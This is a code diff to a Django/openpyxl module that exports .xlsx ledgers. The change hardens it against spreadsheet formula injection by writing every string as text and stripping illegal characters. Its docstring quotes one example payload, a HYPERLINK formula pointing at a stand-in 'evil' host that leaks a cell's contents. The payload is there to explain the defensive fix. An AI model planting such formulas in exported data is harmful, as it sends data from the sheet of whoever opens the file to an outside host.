@@ -1,4 +1,8 @@
-"""Formatted .xlsx ledgers (台账): a title row, 序号, bold headers, frozen panes — one writer for every export."""
+"""Formatted .xlsx ledgers (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.
+
+Every text cell is written as text (`keep_text`, `text_value`, `append_row`): openpyxl would store a string that
+begins with "=" as a formula (and "#N/A" as an error), so an event titled `=HYPERLINK("http://evil…"&A1,"x")` would
+run in the spreadsheet of the officer who opens the export. Characters a sheet cannot hold are dropped, not a 500."""
 
 from __future__ import annotations
 
@@ -10,11 +14,51 @@ from itertools import chain, islice
 from django.http import HttpResponse
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 WIDTH_SAMPLE = 500  # rows read to size the columns
+
+
+def clean_text(value: str) -> str:
+    """A string a sheet can hold: the control characters openpyxl refuses are dropped."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value)
+
+
+def keep_text(cell):
+    """Make a cell holding a string a text cell, whatever the string looks like (never a formula or an error);
+    works on the cells of ordinary and of write-only sheets. Returns the cell."""
+    if isinstance(cell.value, str):
+        cell.data_type = "s"
+    return cell
+
+
+def text_value(ws, value):
+    """What to put in a write-only row for `value`: as it is, unless it is a string openpyxl would not store as
+    text (or one with characters a sheet cannot hold) — then a WriteOnlyCell kept as text."""
+    if value is None:
+        return ""
+    if not isinstance(value, str):
+        return value
+    if ILLEGAL_CHARACTERS_RE.search(value):
+        value = clean_text(value)
+    if value[:1] in ("=", "#"):
+        return keep_text(WriteOnlyCell(ws, value=value))
+    return value
+
+
+def append_row(ws, values: Iterable) -> None:
+    """Append a row to an ordinary (not write-only) sheet with every string kept as text."""
+    ws.append(["" if v is None else (clean_text(v) if isinstance(v, str) else v) for v in values])
+    for cell in ws[ws.max_row]:
+        keep_text(cell)
+
+
+def text_cell(ws, row: int, column: int, value):
+    """ws.cell(row, column, value) on an ordinary sheet, a string kept as text."""
+    return keep_text(ws.cell(row=row, column=column, value=clean_text(value) if isinstance(value, str) else value))
 
 
 def build_ledger(
@@ -45,7 +89,7 @@ def build_ledger(
     ws.freeze_panes = f"A{head_rows + 2}"  # before the first row: streaming writes the sheet's head then
     last = get_column_letter(len(columns))
     ws.merged_cells.add(f"A1:{last}1")
-    top = WriteOnlyCell(ws, value=title)
+    top = keep_text(WriteOnlyCell(ws, value=clean_text(str(title))))
     top.font, top.alignment = Font(bold=True, size=14), Alignment(horizontal="center")
     ws.append([top])
 
@@ -53,7 +97,7 @@ def build_ledger(
     centred = Alignment(horizontal="center", vertical="center", wrap_text=True)
 
     def head(value):
-        cell = WriteOnlyCell(ws, value=value)
+        cell = keep_text(WriteOnlyCell(ws, value=clean_text(value) if isinstance(value, str) else value))
         cell.font, cell.fill, cell.alignment = Font(bold=True), fill, centred
         return cell
 
@@ -83,7 +127,7 @@ def build_ledger(
     else:
         ws.append([head(c) for c in columns])
     for index, row in enumerate(chain(sample, rows), start=1):
-        ws.append(([index] if numbered else []) + ["" if v is None else v for v in row])
+        ws.append(([index] if numbered else []) + [text_value(ws, v) for v in row])
     out = BytesIO()
     wb.save(out)
     return out.getvalue()
